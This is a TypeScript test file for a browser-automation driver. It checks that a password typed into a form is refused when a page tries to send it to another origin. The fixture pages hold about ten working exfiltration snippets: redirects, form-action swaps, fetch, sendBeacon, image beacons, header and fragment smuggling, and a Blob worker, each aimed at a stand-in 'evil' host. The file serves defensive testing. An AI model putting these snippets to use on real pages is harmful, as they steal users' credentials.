import { createServer, type Server } from 'node:http';
import { type BrowserSession, type PageView, RunwrightError } from '@runwright/contract';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { drivers } from '../drivers.test-helpers.ts';

const openDriver = drivers();
const secret = 'correct horse battery';
const addresses = [{ address: '127.0.0.1', family: 4 as const }];
const { signal } = new AbortController();
let server: Server;
let own: string;
let foreign: string;
let openFor: (site: string) => Promise<BrowserSession>;
let close: () => Promise<void>;
/** Host, address, headers and body of each request but those for pages. */
const received: { readonly host: string; readonly text: string }[] = [];

const field = `<input type="password" name="word" aria-label="Password">`;
const form =
  (attributes: string, inside = '<button>Go</button>') =>
  () =>
    `<form method="post" ${attributes}>${field}${inside}</form>`;
const script = (body: (evil: string) => string) => () =>
  `<form method="post" action="/in">${field}<button>Go</button></form><script>
    const form = document.forms[0];
    ${body(`${foreign}/in`)}
  </script>`;

/** Documents by path. Each has a button that sends the password to the other site in its way. */
const pages: Readonly<Record<string, () => string>> = {
  '/redirecting': form('action="/307"'),
  '/permanent': form('action="/308"'),
  '/window': form('action="/307" target="_blank"'),
  '/swapped': script((evil) => `form.oninput = () => { form.action = '${evil}'; };`),
  '/script': script(
    (evil) =>
      `form.action = "javascript:void fetch('${evil}', {method:'POST', mode:'no-cors', body: new URLSearchParams(new FormData(form))})";`,
  ),
  '/address': script((evil) => `form.onsubmit = () => { form.method = 'get'; form.action = '${evil}'; };`),
  '/beacon': script(
    (evil) =>
      `form.onsubmit = (event) => { event.preventDefault(); navigator.sendBeacon('${evil}', JSON.stringify({ word: form.word.value })); };`,
  ),
  '/image': script(
    (evil) =>
      `form.onsubmit = (event) => { event.preventDefault(); new Image().src = '${evil}?' + btoa(form.word.value); };`,
  ),
  '/header': script(
    (evil) =>
      `form.onsubmit = (event) => { event.preventDefault(); fetch('${evil}', { headers: { Accept: form.word.value }, mode: 'no-cors' }); };`,
  ),
  '/fragment': script(
    (evil) =>
      `form.onsubmit = (event) => { event.preventDefault(); location.href = '${evil}#' + form.word.value; };`,
  ),
  '/redirected-fetch': script(
    () =>
      `form.onsubmit = (event) => { event.preventDefault(); fetch('/307', { method: 'POST', body: form.word.value, mode: 'no-cors' }); };`,
  ),
  '/worker': script(
    (evil) =>
      `const source = "onmessage = ({ data }) => fetch('${evil}', { method: 'POST', body: data, mode: 'no-cors' })";
      const worker = new Worker(URL.createObjectURL(new Blob([source])));
      form.onsubmit = (event) => { event.preventDefault(); worker.postMessage(form.word.value); };`,
  ),
  '/own': form('action="/in"'),
};

beforeAll(async () => {
  server = createServer(async (request, response) => {
    const parts: Buffer[] = [];
    for await (const part of request) parts.push(part as Buffer);
    const { url = '', method = '' } = request;
    const page = method === 'GET' ? pages[url] : undefined;
    if (!page)
      received.push({
        host: request.headers.host ?? '',
        text: `${url} ${JSON.stringify(request.headers)} ${Buffer.concat(parts)}`,
      });
    const status = url === '/307' ? 307 : url === '/308' ? 308 : 200;
    const headers = { 'content-type': 'text/html', ...(status !== 200 && { location: `${foreign}/in` }) };
    response.writeHead(status, headers);
    response.end(`<!doctype html><title>Page</title>${page?.() ?? ''}`);
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const address = server.address();
  const port = typeof address === 'object' && address ? address.port : 0;
  own = `http://127.0.0.1:${port}`;
  foreign = `http://localhost:${port}`;
  const driver = await openDriver();
  close = () => driver.close();
  openFor = (site) =>
    driver.open({
      egress: { check: async (url) => ({ url: new URL(url), addresses }) },
      reveal(text, origin) {
        if (!text.includes('{{secret.shop.password.1}}')) return text;
        if (origin !== site)
          throw new RunwrightError('secret_unavailable', `\`shop\` may not go to \`${origin}\`.`);
        return text.replaceAll('{{secret.shop.password.1}}', secret);
      },
      signal,
    });
});
afterAll(async () => {
  await close();
  server.closeAllConnections();
  server.close();
});

const idOf = (view: PageView, name: string): string =>
  view.elements().find((element) => element.name === name)?.id ?? '';

/** Types the password and sends the form; answers with what the click reported, until an event has come. */
async function submit(session: BrowserSession, path: string) {
  received.length = 0;
  await session.page.act({ action_type: 'goto_url', url: own + path }, { epoch: 0, signal });
  const view = await session.page.read({ mode: 'action', signal });
  const typed = await session.page.act(
    { action_type: 'input_text', id: idOf(view, 'Password'), text: '{{secret.shop.password.1}}' },
    { epoch: view.epoch, signal },
  );
  expect(typed.status).toBe('ok');
  return session.page.act({ action_type: 'click', id: idOf(view, 'Go') }, { epoch: view.epoch, signal });
}

const isRefused = async (path: string): Promise<void> => {
  // The document that gets the first secret of a session was open before it.
  const session = await openFor(own);
  const { events } = await submit(session, path);
  const refusal = {
    type: 'request_refused',
    origin: foreign,
    reason: `\`shop\` may not go to \`${foreign}\`.`,
  };
  expect(events).toContainEqual(refusal);
  expect(received.filter(({ host }) => host.startsWith('localhost'))).toEqual([]);
  await session.close();
};
it.each(['/redirecting', '/image'])(
  'a request that carries a secret to another site is refused: %s',
  { tags: ['security'] },
  isRefused,
);
it.each([
  '/permanent',
  '/window',
  '/swapped',
  '/script',
  '/address',
  '/beacon',
  '/header',
  '/fragment',
  '/redirected-fetch',
  '/worker',
])(
  'a request that carries a secret to another site is refused: %s',
  { tags: ['security', 'extended'] },
  isRefused,
);

it('a request that carries a secret to its site goes through, in each session by its own rules', async () => {
  const [session, other] = [await openFor(own), await openFor(foreign)];
  await other.page.act({ action_type: 'goto_url', url: `${foreign}/own` }, { epoch: 0, signal });
  const view = await other.page.read({ mode: 'action', signal });
  const text = '{{secret.shop.password.1}}';
  const typing = { action_type: 'input_text', id: idOf(view, 'Password'), text } as const;
  expect((await other.page.act(typing, { epoch: view.epoch, signal })).status).toBe('ok');
  const { events } = await submit(session, '/own');
  expect(events.filter(({ type }) => type === 'request_refused')).toEqual([]);
  expect(received.map(({ text }) => text).join()).toContain('word=correct+horse+battery');
  await Promise.all([session.close(), other.close()]);
});
